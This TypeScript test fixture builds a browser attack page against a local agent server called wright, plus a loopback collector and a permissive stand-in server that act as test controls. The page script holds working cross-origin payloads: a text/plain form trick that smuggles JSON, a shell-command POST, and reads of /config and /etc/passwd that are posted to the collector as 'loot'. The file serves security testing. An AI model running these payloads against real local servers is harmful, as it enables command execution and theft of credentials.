// The attacker's side of the browser test: the HTML page that attacks a wright server from
// inside a real browser, the collection server it reports to, a page server on another
// loopback origin, and a permissive stand-in server that records what the browser sent.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http"
import type { AddressInfo } from "node:net"

export interface PageConfig {
  /** Base URL of the server under attack; "" when the page is same-origin with it (DNS rebinding). */
  target: string
  /** The attacker's collection server. */
  collector: string
  /** Absolute path the shell attack tries to create. */
  marker: string
  /** A directory whose config starts an MCP server; a GET naming it tries to open it as a project. */
  evilProject: string
  /** An existing session of the user's whose id the attacker is assumed to know (it cannot be read). */
  session: string
  /** Tells runs apart in the collector's log. */
  label: string
}

/**
 * Every attack a web page can make at a wright server: a preflighted JSON fetch, a `no-cors`
 * text/plain POST, an auto-submitted text/plain form, a shell command, a GET opening another
 * directory, and reads of `/config` and `/etc/passwd`. Anything it manages to read goes to the
 * collector under `/loot`; a summary goes to `/done` at the end.
 */
export function attackPage(cfg: PageConfig): string {
  const script = `
const cfg = ${JSON.stringify(cfg)};
const T = cfg.target;
const send = (kind, data) =>
  fetch(cfg.collector + "/" + kind, { method: "POST", mode: "no-cors", body: JSON.stringify({ label: cfg.label, ...data }) }).catch(() => {});
const timeout = (p, ms) => Promise.race([p, new Promise((_, reject) => setTimeout(() => reject(new Error("timeout")), ms))]);
const read = async (res) => ({ status: res.status, type: res.type, text: res.type === "opaque" ? null : await res.text() });
const results = {};
async function attempt(name, fn) {
  try { results[name] = await timeout(fn(), 8000); } catch (e) { results[name] = { error: String(e) }; }
}
let sessionID;
const json = (text) => { try { return JSON.parse(text); } catch { return undefined; } };
function formPost(action, title) {
  // enctype=text/plain sends "name=value": this name and value make the body {"title":…,"x":"="}.
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "sink" + Math.random().toString(36).slice(2);
    frame.style.display = "none";
    document.body.append(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.enctype = "text/plain";
    form.action = action;
    form.target = frame.name;
    const input = document.createElement("input");
    input.type = "hidden";
    input.name = JSON.stringify({ title }).slice(0, -1) + ',"x":"';
    input.value = '"}';
    form.append(input);
    document.body.append(form);
    let loads = 0;
    frame.addEventListener("load", () => { if (++loads === 1) resolve({ submitted: true }); });
    form.submit();
  });
}
(async () => {
  await attempt("fetchJson", async () => {
    const r = await read(await fetch(T + "/session", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ title: "attack: fetch json" }) }));
    sessionID = json(r.text)?.id ?? sessionID;
    return r;
  });
  await attempt("noCorsTextPlain", async () =>
    read(await fetch(T + "/session", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: JSON.stringify({ title: "attack: no-cors text/plain" }) })));
  await attempt("formTextPlain", () => formPost(T + "/session", "attack: form"));
  await attempt("listSessions", async () => {
    const r = await read(await fetch(T + "/session"));
    const list = json(r.text);
    if (Array.isArray(list) && list[0]?.id) sessionID = sessionID ?? list[0].id;
    return { status: r.status, type: r.type, count: Array.isArray(list) ? list.length : null };
  });
  sessionID = sessionID ?? cfg.session;
  const shell = JSON.stringify({ command: "echo pwned > " + cfg.marker });
  await attempt("shellFetch", async () =>
    read(await fetch(T + "/session/" + sessionID + "/shell", { method: "POST", headers: { "content-type": "application/json" }, body: shell })));
  await attempt("shellNoCors", async () =>
    read(await fetch(T + "/session/" + sessionID + "/shell", { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: shell })));
  await attempt("openDirectory", async () =>
    read(await fetch(T + "/session?directory=" + encodeURIComponent(cfg.evilProject), { mode: "no-cors" })));
  for (const [name, path] of [["config", "/config"], ["passwd", "/file/content?path=/etc/passwd&directory=/"]]) {
    await attempt(name, async () => {
      const r = await read(await fetch(T + path));
      if (r.status === 200 && r.text) await send("loot", { what: name, text: r.text });
      return { status: r.status, type: r.type, length: r.text?.length ?? null };
    });
  }
  await send("done", { origin: location.origin, results });
})();
`
  return `<!doctype html><html><head><meta charset="utf-8"><title>totally harmless</title></head><body><script>${script}</script></body></html>`
}

export interface Recorded {
  method: string
  path: string
  host: string | undefined
  origin: string | undefined
  contentType: string | undefined
  body: string
}

export interface Listener {
  url: string
  port: number
  requests: Recorded[]
  close(): Promise<void>
}

async function listen(handle: (req: IncomingMessage, res: ServerResponse, rec: Recorded) => void): Promise<Listener & { server: Server }> {
  const requests: Recorded[] = []
  const server = createServer((req, res) => {
    let body = ""
    req.setEncoding("utf8")
    req.on("data", (d) => (body += d))
    req.on("end", () => {
      const rec: Recorded = {
        method: req.method!,
        path: req.url!,
        host: req.headers.host,
        origin: req.headers.origin,
        contentType: req.headers["content-type"],
        body,
      }
      requests.push(rec)
      handle(req, res, rec)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  const port = (server.address() as AddressInfo).port
  return {
    server,
    url: `http://127.0.0.1:${port}`,
    port,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}

export interface Collector extends Listener {
  /** Resolves with the page's `/done` summary for `label`. */
  done(label: string, timeoutMs?: number): Promise<{ origin: string; results: Record<string, unknown> }>
  /** What the page managed to read and send home for `label`. */
  loot(label: string): { what: string; text: string }[]
}

/** The attacker's collection server: accepts anything from anywhere and records it. */
export async function startCollector(): Promise<Collector> {
  const l = await listen((_req, res) => {
    res.writeHead(204, { "access-control-allow-origin": "*" })
    res.end()
  })
  const parsed = (kind: string, label: string) =>
    l.requests.filter((r) => r.path === `/${kind}`).map((r) => JSON.parse(r.body)).filter((b) => b.label === label)
  return {
    ...l,
    async done(label, timeoutMs = 30_000) {
      const deadline = Date.now() + timeoutMs
      for (;;) {
        const found = parsed("done", label)[0]
        if (found) return found
        if (Date.now() > deadline) throw new Error(`the attack page (${label}) never reported done; collector saw: ${JSON.stringify(l.requests)}`)
        await new Promise((r) => setTimeout(r, 50))
      }
    },
    loot: (label) => parsed("loot", label),
  }
}

/** Serves one HTML page at `/` from its own loopback origin. */
export async function startPageServer(html: () => string): Promise<Listener> {
  return listen((_req, res) => {
    res.writeHead(200, { "content-type": "text/html; charset=utf-8" })
    res.end(html())
  })
}

/**
 * A server with no defences at all, standing in for wright in the positive controls: it lets
 * every origin in, answers POST /session with a session, and serves a secret at GET /config and
 * passwd-like lines at /file/content, so the harness can be seen detecting every kind of success.
 */
export async function startPermissive(secret: string): Promise<Listener> {
  return listen((req, res, rec) => {
    const cors = {
      "access-control-allow-origin": req.headers.origin ?? "*",
      "access-control-allow-methods": "GET, POST",
      "access-control-allow-headers": req.headers["access-control-request-headers"] ?? "content-type",
    }
    if (rec.method === "OPTIONS") {
      res.writeHead(204, cors)
      return res.end()
    }
    const answer = (body: unknown) => {
      res.writeHead(200, { ...cors, "content-type": "application/json" })
      res.end(JSON.stringify(body))
    }
    const path = rec.path.split("?")[0]
    if (rec.method === "POST" && path === "/session") return answer({ id: "ses_permissive" })
    if (rec.method === "GET" && path === "/session") return answer([{ id: "ses_permissive" }])
    if (path === "/config") return answer({ provider: { fake: { options: { apiKey: secret } } } })
    if (path === "/file/content") return answer({ type: "text", content: "root:x:0:0:root:/root:/bin/bash\n" })
    return answer(true)
  })
}
